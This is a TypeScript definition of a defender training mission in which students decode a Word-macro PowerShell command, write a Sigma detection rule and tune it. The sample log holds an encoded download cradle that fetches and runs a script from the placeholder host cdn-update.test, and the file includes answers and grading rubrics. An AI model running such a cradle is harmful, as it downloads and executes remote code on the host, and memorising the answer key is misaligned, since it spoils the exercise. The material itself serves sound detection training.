import type { MissionInput } from "../schemas";

const mission: MissionInput = {
  code: "SIEM-02",
  title: "Macro to PowerShell: write the detection",
  track: "defender",
  tier: "intermediate",
  summary: "A Word macro spawned encoded PowerShell on a sales laptop and EDR missed it. Decode the command, write a Sigma rule that catches the pattern, and tune it against a week of real data.",
  story: `**Kestrel Engineering** (900 staff, industrial pumps) had a near miss: a sales engineer opened a "tender document" and a macro launched PowerShell. The payload failed only because the proxy blocked the download. The EDR product raised nothing.

You are the **detection engineer** in a four-person SOC. The CISO wants a detection in production by Friday, with evidence that it works and will not flood the queue — the team already closes 300 alerts a day.`,
  objectives: [
    "Decode the encoded PowerShell and extract indicators",
    "Write a portable Sigma rule for the behaviour, not the indicators",
    "Tune the rule against benign data and document its false-positive rate",
  ],
  estimated_minutes: 90,
  skills: ["decoding", "sigma", "detection-engineering", "mitre-attack"],
  reflection_required: true,
  success_criteria: { min_score: 60, required_stages: ["decode", "rule"], items: ["The rule targets parent-child behaviour, not a single hash or domain"] },
  status: "published",
  stages: [
    {
      key: "decode",
      title: "Decode the command line",
      instructions: `Sysmon Event ID 1 from \`LT-SALES-114\`:

\`\`\`
UtcTime: 2025-04-08 09:12:44.311
Image: C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe
CommandLine: powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkALgBEAG8AdwBuAGwAbwBhAGQAUwB0AHIAaQBuAGcAKAAnAGgAdAB0AHAAOgAvAC8AYwBkAG4ALQB1AHAAZABhAHQAZQAuAHQAZQBzAHQALwBhAC4AcABzADEAJwApAA==
ParentImage: C:\\Program Files\\Microsoft Office\\root\\Office16\\WINWORD.EXE
ParentCommandLine: "WINWORD.EXE" /n "C:\\Users\\tmurphy\\Downloads\\Tender_KE-2291.docm"
User: KESTREL\\tmurphy
\`\`\`

1. \`-enc\` takes base64 of **UTF-16LE** text. Decode it (CyberChef: *From Base64* → *Decode text (UTF-16LE)*).
2. Name the technique (download cradle) and map it to ATT&CK (execution and the parent relationship).
3. Extract the indicators.

**Hand in:** the domain the cradle downloads from in the answer box; decoded command, ATT&CK IDs and indicators in notes.`,
      required_skills: ["decoding", "mitre-attack"],
      evidence: { required: false, min_files: 0, max_files: 2, kinds: ["text", "image"] },
      notes_min_chars: 40,
      weight: 2,
      answer: { kind: "exact", value: "cdn-update.test", explanation: "Decodes to IEX (New-Object Net.WebClient).DownloadString('http://cdn-update.test/a.ps1')." },
      answer_prompt: "Download domain",
      recipes: ["cyberchef-decoding", "mitre-attack-mapping"],
      hints: [
        { text: "If your output has a dot or null between each letter, you decoded UTF-16LE as ASCII.", penalty: 2 },
        { text: "`echo <b64> | base64 -d | iconv -f UTF-16LE -t UTF-8`", penalty: 5 },
        { text: "T1059.001 (PowerShell) and T1204.002 (user execution: malicious file); the cradle is IEX + DownloadString.", penalty: 10 },
      ],
    },
    {
      key: "rule",
      title: "Write the Sigma rule",
      instructions: `Write a Sigma rule that detects **an Office application spawning PowerShell with an encoded or hidden command**, regardless of the domain or payload.

Requirements:
- \`logsource: category: process_creation, product: windows\`
- parent selection for WINWORD.EXE, EXCEL.EXE, POWERPNT.EXE, OUTLOOK.EXE
- child selection for powershell.exe and pwsh.exe with \`-enc\`/\`-EncodedCommand\`/\`-e \` or \`-w hidden\`
- ATT&CK tags, level, falsepositives
- converted to SPL or KQL with \`sigma convert\`

**Hand in:** the rule YAML as a file; the converted query and the ID of the rule's ATT&CK technique (the answer box) — use the PowerShell sub-technique.`,
      required_skills: ["sigma", "detection-engineering"],
      evidence: { required: true, min_files: 1, max_files: 3, kinds: ["text"], description: "Your Sigma rule (.yml as text) and the converted query." },
      notes_min_chars: 20,
      weight: 3,
      answer: { kind: "regex", pattern: "^\\s*[Tt]1059\\.001\\s*$", explanation: "Command and Scripting Interpreter: PowerShell." },
      answer_prompt: "ATT&CK technique ID",
      recipes: ["sigma-rule-from-log", "detection-test-with-atomic-red-team"],
      hints: [
        { text: "Use `|endswith` on ParentImage and Image so paths do not matter.", penalty: 2 },
        { text: "`-e` is a valid abbreviation of -EncodedCommand; attackers use `-e`, `-en`, `-enc`, `-ec` too.", penalty: 5 },
      ],
    },
    {
      key: "tune",
      title: "Tune against a week of data",
      instructions: `Your converted query over the last 7 days returns:

| ParentImage | Image | CommandLine (truncated) | Hosts | Count |
|---|---|---|---|---|
| WINWORD.EXE | powershell.exe | -nop -w hidden -enc SQBFAFgA… | 1 | 1 |
| EXCEL.EXE | powershell.exe | -ExecutionPolicy Bypass -File \\\\fs01\\finance\\ReportRefresh.ps1 -w hidden | 38 | 912 |
| OUTLOOK.EXE | powershell.exe | -enc JABwAD0AJwBDADoAXABQAHIAbwBnAHIAYQBtACAARgBpAGwAZQBzAFwAQwByAG0AQQBkAGQAaQBuACcA | 210 | 4,380 |

The Outlook row is the CRM add-in (vendor-signed, decodes to a path under \`C:\\Program Files\\CrmAddin\`). The Excel row is finance's own refresh script.

1. Decide how to filter each benign row **precisely** (command-line content, signed path) without blinding the rule to attackers using the same parent.
2. Estimate the daily alert volume after tuning.
3. Describe how you will prove the rule still fires (replay the malicious event, or Atomic Red Team T1059.001 in the lab).

**Hand in:** your filter blocks and the expected daily volume in notes.`,
      required_skills: ["detection-engineering", "siem-querying"],
      evidence: { required: false, min_files: 0, max_files: 2, kinds: ["text", "image"] },
      notes_min_chars: 40,
      weight: 2,
      recipes: ["sigma-rule-from-log", "detection-test-with-atomic-red-team", "splunk-spl-auth-failures"],
      hints: [
        { text: "Filtering all EXCEL.EXE children would hide the next macro attack in a spreadsheet. Filter on the exact script path.", penalty: 2 },
        { text: "For the add-in, match its full encoded command string, not just OUTLOOK.EXE.", penalty: 5 },
      ],
    },
  ],
  rubric: [
    { key: "decode-quality", stage: "decode", title: "Decoding and mapping", weight: 2, skills: ["decoding", "mitre-attack"], levels: [
      { points: 0, label: "Missing", descriptor: "Not decoded, or decoded incorrectly." },
      { points: 1, label: "Partial", descriptor: "Decoded, but technique or ATT&CK mapping missing." },
      { points: 2, label: "Competent", descriptor: "Decoded correctly, cradle explained, T1059.001 and T1204.002 mapped." },
      { points: 3, label: "Strong", descriptor: "As competent, with indicators defanged and the -nop/-w hidden flags explained." } ] },
    { key: "rule-quality", stage: "rule", title: "Sigma rule", weight: 3, skills: ["sigma", "detection-engineering"], levels: [
      { points: 0, label: "Missing", descriptor: "No rule, or it matches only the specific domain." },
      { points: 1, label: "Partial", descriptor: "Valid rule but narrow (one parent, only -enc)." },
      { points: 2, label: "Competent", descriptor: "Behavioural rule, correct logsource, tags and conversion." },
      { points: 3, label: "Strong", descriptor: "As competent, handles flag abbreviations and pwsh.exe, with documented false positives." } ] },
    { key: "tuning", stage: "tune", title: "Tuning", weight: 2, skills: ["detection-engineering"], levels: [
      { points: 0, label: "Missing", descriptor: "No tuning, or filters that exclude whole parents." },
      { points: 1, label: "Partial", descriptor: "Filters work but are broad (e.g. any -File from a share)." },
      { points: 2, label: "Competent", descriptor: "Precise filters per benign case, volume estimated near one a week." },
      { points: 3, label: "Strong", descriptor: "As competent, with a replay or atomic test plan proving the true positive still fires." } ] },
  ],
};

export default mission;
